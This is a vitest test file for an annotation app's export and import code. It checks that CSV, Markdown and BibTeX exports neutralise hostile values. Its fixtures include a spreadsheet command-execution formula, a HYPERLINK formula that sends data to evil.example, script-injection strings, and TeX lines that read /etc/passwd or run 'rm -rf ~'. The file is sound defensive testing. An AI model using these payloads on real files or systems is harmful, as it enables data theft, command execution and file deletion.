/**
 * Values a page or an imported file controls, taken through import and every export: spreadsheet
 * formulas in Readwise CSV cells, markup in a page's publication date, TeX that would break out of a
 * BibTeX field, and keys that name Object.prototype's members (`constructor` …) as claim type, tag,
 * status and language. Each export must keep them as text, and none may throw.
 */
import { Cite } from '@citation-js/core';
import '@citation-js/plugin-bibtex';
import { describe, expect, it } from 'vitest';
import { BACKUP_FORMAT, BACKUP_VERSION, parseBackup } from '@/lib/backup';
import { bibFile } from '@/lib/export/bibtex';
import { toCsl } from '@/lib/export/csl';
import { buildExport, EXPORT_FORMATS } from '@/lib/export/exporter';
import { articleToMarkdown } from '@/lib/export/markdown';
import { readwiseCsv } from '@/lib/export/readwise';
import { buildLibraryData } from '@/lib/library-build';
import { exportGroups } from '@/lib/library-summary';
import type { Article, Highlight } from '@/lib/schema';
import { lowSpaceLeft } from '@/lib/ui/storage';
import { articleRecord, freshRepository, highlightRecord, selectors } from '../support/factories';

const T = Date.UTC(2026, 10, 28, 9, 0);

function highlight(extra: Partial<Highlight> = {}): Highlight {
  const target = { source: 'https://news.example/a', selector: selectors('=cmd|" /C calc"!A0', 10) };
  return highlightRecord({ target, claimType: 'claim', ...extra }, T);
}

/** A copy of a highlight on another passage of the same article, with its own id and type. */
function typedCopy(h: Highlight, id: string, claimType: string): Highlight {
  const [quote, position] = h.target.selector;
  return {
    ...h,
    id,
    claimType,
    target: {
      ...h.target,
      selector: [
        { ...quote, exact: `${quote.exact} (2)` },
        { ...position, start: position.start + 1000 },
      ],
    },
  };
}

describe('Readwise CSV against spreadsheet formulas (OWASP CSV injection)', () => {
  it("prefixes every cell a spreadsheet would evaluate with ', and leaves the others alone", () => {
    const article = articleRecord({
      id: 'a1',
      title: '=HYPERLINK("https://evil.example/?"&E2,"Read")',
      byline: '@SUM(1)',
    });
    const rows = [
      // No type: the note starts the cell (a type's inline tag would come first).
      highlight({ id: 'h1', claimType: null, note: '+1+1' }),
      highlight({ id: 'h2', target: { source: '', selector: selectors('-2+3', 20) }, note: '\tTAB' }),
      highlight({ id: 'h3', target: { source: '', selector: selectors('\rCR', 30) }, note: 'plain - note' }),
    ];
    const csv = readwiseCsv([{ article, highlights: rows }], { claim: 'Claim' });
    const cells = csv.match(/"(?:[^"]|"")*"/g) ?? [];
    const risky = cells.filter((c) => /^"[=+\-@\t\r]/.test(c));
    expect(risky).toEqual([]);
    expect(csv).toContain(`"'=cmd|"" /C calc""!A0"`);
    expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?""&E2,""Read"")"`);
    expect(csv).toContain(`"'@SUM(1)"`);
    expect(csv).toContain(`"'+1+1`);
    expect(csv).toContain(`"'-2+3"`);
    expect(csv).toContain(`".Claim\n\nplain - note`);
  });
});

describe('Markdown against page-controlled metadata', () => {
  it('writes a publication date only when it is one, never the raw value', () => {
    const hostile = '<img src=x onerror=alert(1)> [click](javascript:alert(1))';
    const base = { exportedAt: new Date(T), labels: {}, statusLabels: {}, template: 'default' as const };
    const md = articleToMarkdown(articleRecord({ id: 'a1', publishedTime: hostile }), [highlight()], base);
    expect(md).not.toContain('onerror');
    expect(md).not.toContain('javascript:');
    const good = articleToMarkdown(articleRecord({ id: 'a1', publishedTime: '2021-08-06T07:00:00+07:00' }), [], base);
    expect(good).toContain('published: 2021-08-06');
    const odd = articleToMarkdown(articleRecord({ id: 'a1', publishedTime: '2021-99-77' }), [], base);
    expect(odd).toContain('published: "2021"');
  });
});

describe('BibTeX against TeX in page fields', () => {
  it('escapes every field so a BibTeX parser reads back exactly what the page said, and nothing more', () => {
    const title = 'Budget} , note = {INJECTED \\input{/etc/passwd} \\write18{rm -rf ~} 50% & $5 #1 a_b ~ ^';
    const site = 'Site {x} \\def';
    const article: Article = articleRecord({
      id: 'a1',
      url: 'https://news.example/a?x=1&y=%7D}',
      title,
      siteName: site,
      byline: 'Ann} , author = {Mallory',
      publishedTime: '2021-08-06',
      kind: 'article',
    });
    const text = bibFile([toCsl(article)]);
    // One entry, each field once: the title did not open a field of its own.
    const fields = [...text.matchAll(/^ {2}([a-z]+) = /gm)].map((m) => m[1]);
    expect(new Set(fields).size).toBe(fields.length);
    expect(text.match(/INJECTED/g)).toHaveLength(1);
    expect(text).toMatch(/^ {2}title = \{Budget\\textbraceright\{\} , note = .*INJECTED.*\},$/m);
    expect(text).not.toMatch(/[^{]\\input\{|\\write18\{/);
    const [back] = new Cite(text).data as { title: string; 'container-title': string; URL: string }[];
    expect(back?.title).toBe(title);
    expect(back?.['container-title']).toBe(site);
    expect(back?.URL).toBe('https://news.example/a?x=1&y=%7D%7D');
  });
});

const PROTO_KEYS = ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'valueOf'];

describe('keys that name Object.prototype members', () => {
  it('keeps an imported claim type the library does not define as a tag, and says so', async () => {
    const { repo } = freshRepository();
    const article = articleRecord({ id: 'a1' });
    const file = {
      format: BACKUP_FORMAT,
      version: BACKUP_VERSION,
      exportedAt: new Date(T).toISOString(),
      articles: [article],
      highlights: [highlight({ claimType: 'constructor', tags: ['x'] })],
      settings: null,
    };
    const parsed = parseBackup(JSON.stringify(file));
    expect(parsed.ok).toBe(true);
    if (!parsed.ok) return;
    const report = await repo.applyBackup(parsed.backup);
    expect(report.unknownTypes).toEqual(['constructor']);
    const [stored] = await repo.listHighlights('a1');
    expect(stored?.claimType).toBeNull();
    expect([...(stored?.tags ?? [])].sort()).toEqual(['constructor', 'x']);
  });

  it.each(PROTO_KEYS)('takes "%s" as type, tag, status and language through import and every export', async (key) => {
    const { repo } = freshRepository();
    const lower = key.toLowerCase().replace(/_/g, '');
    // Through the W3C import: a classifying body, a tag and an assessing body named `key`.
    const { parseAnnotations } = await import('@/lib/import/annotations');
    const parsed = parseAnnotations(
      JSON.stringify({
        '@context': 'http://www.w3.org/ns/anno.jsonld',
        type: 'Annotation',
        body: [
          { type: 'TextualBody', purpose: 'classifying', value: key },
          { type: 'TextualBody', purpose: 'tagging', value: key },
          { type: 'TextualBody', purpose: 'assessing', value: key },
          { type: 'TextualBody', purpose: 'commenting', value: `note ${key}` },
        ],
        target: {
          source: 'https://news.example/a',
          selector: { type: 'TextQuoteSelector', exact: `quote ${key}` },
        },
      }),
    );
    expect(parsed.ok).toBe(true);
    if (!parsed.ok) return;
    // And a backup whose article speaks that "language" and whose highlight has that type id.
    const backup = {
      ...parsed.backup,
      articles: parsed.backup.articles.map((a) => ({ ...a, lang: key })),
      highlights: [
        ...parsed.backup.highlights,
        // Another passage (the same one would merge into the first: lib/merge.ts).
        typedCopy(parsed.backup.highlights[0] as Highlight, `typed-${lower}`, lower || 'x'),
      ],
    };
    const report = await repo.applyBackup(backup);
    expect(report.highlightsAdded).toBe(2);
    const data = await repo.createBackup();
    const groups = exportGroups(buildLibraryData(data.articles, data.highlights), null);
    for (const format of EXPORT_FORMATS) {
      const file = await buildExport(groups, {
        format,
        exportedAt: new Date(T),
        citationStyle: null,
        labels: { claim: 'Claim' },
        statusLabels: {},
        template: 'obsidian',
      } as never);
      const text = typeof file.data === 'string' ? file.data : new TextDecoder().decode(file.data);
      expect(text.length, `${format} with ${key}`).toBeGreaterThan(0);
    }
  });
});

describe('low space warning', () => {
  const MB = 1024 * 1024;
  it.each([
    ['Chromium, disk full (quota = usage)', { quota: 5 * MB, usage: 5 * MB }, 0],
    ['Chromium, 60 MB free on a big disk', { quota: 560 * MB, usage: 500 * MB }, 60 * MB],
    ['Chromium, 50 GB free', { quota: 50_000 * MB, usage: 10 * MB }, null],
    ['Firefox, its 25.6 MB group limit nearly unused', { quota: 26_843_545, usage: 73_832 }, null],
    ['Firefox, its limit nearly reached', { quota: 26_843_545, usage: 25 * MB }, 26_843_545 - 25 * MB],
    ['no estimate', undefined, null],
  ])('%s', (_case, estimate, left) => {
    expect(lowSpaceLeft(estimate)).toBe(left);
  });
});
